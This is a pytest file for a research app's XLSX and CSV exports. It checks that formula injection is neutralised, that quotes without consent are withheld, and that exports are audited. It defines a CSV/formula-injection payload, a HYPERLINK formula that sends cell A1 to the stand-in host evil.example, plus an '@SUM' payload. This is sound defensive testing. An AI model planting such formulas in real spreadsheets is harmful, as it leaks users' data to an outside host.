"""Quotes and codes as XLSX and CSV: spreadsheet-safe, never a formula, consent as the findings."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from cohub.apps.analysis.services import theme_create
from cohub.apps.core.models import Event
from cohub.apps.exchange.services import codes_export_csv, quotes_export_xlsx
from cohub.apps.reports.findings import CSV_HEADER

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'


@pytest.fixture
def poisoned(coded):
    theme_create(project=coded.project, name=INJECTION, actor=None, description="@SUM(1+1)")
    return coded


def _cells(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_the_workbook_has_the_csv_rows_and_the_codes(poisoned):
    workbook = load_workbook(io.BytesIO(quotes_export_xlsx(project=poisoned.project, actor=None)))
    assert workbook.sheetnames == ["Quotes", "Codes"]
    quotes = list(workbook["Quotes"].values)
    assert quotes[0] == CSV_HEADER
    assert len(quotes) == 1 + len(poisoned.highlights)
    codes = {row[0]: row[2:] for row in list(workbook["Codes"].values)[1:]}
    assert codes["Waiting"] == (3, 2)  # counts include the withheld quote, as findings do


def test_no_cell_is_a_formula_and_injections_are_neutralised(poisoned):
    content = quotes_export_xlsx(project=poisoned.project, actor=None)
    workbook = load_workbook(io.BytesIO(content))
    cells = list(_cells(workbook))
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + INJECTION in texts
    assert "'@SUM(1+1)" in texts
    assert "'=Nobody rang me back, not once." in texts
    assert "'+44 said no" in texts
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)
    # And in the raw sheet XML nothing is written as a formula element.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)


def test_a_quote_whose_storyteller_has_not_agreed_is_withheld_in_the_workbook(poisoned):
    workbook = load_workbook(io.BytesIO(quotes_export_xlsx(project=poisoned.project, actor=None)))
    texts = " ".join(str(cell.value) for cell in _cells(workbook))
    assert "The letter came after I had moved house." not in texts
    assert "Withheld: Sky has not agreed" in texts


def test_the_codes_csv_is_neutralised(poisoned):
    text = codes_export_csv(project=poisoned.project, actor=None)
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == ["Theme", "Description", "Quotes", "Stories"]
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["'" + INJECTION][1] == "'@SUM(1+1)"
    assert "eleven weeks" not in text


def test_exports_are_audited(poisoned):
    quotes_export_xlsx(project=poisoned.project, actor=None)
    codes_export_csv(project=poisoned.project, actor=None)
    formats = sorted(e.data["format"] for e in Event.objects.filter(verb="findings.export"))
    assert formats == ["codes-csv", "xlsx"]
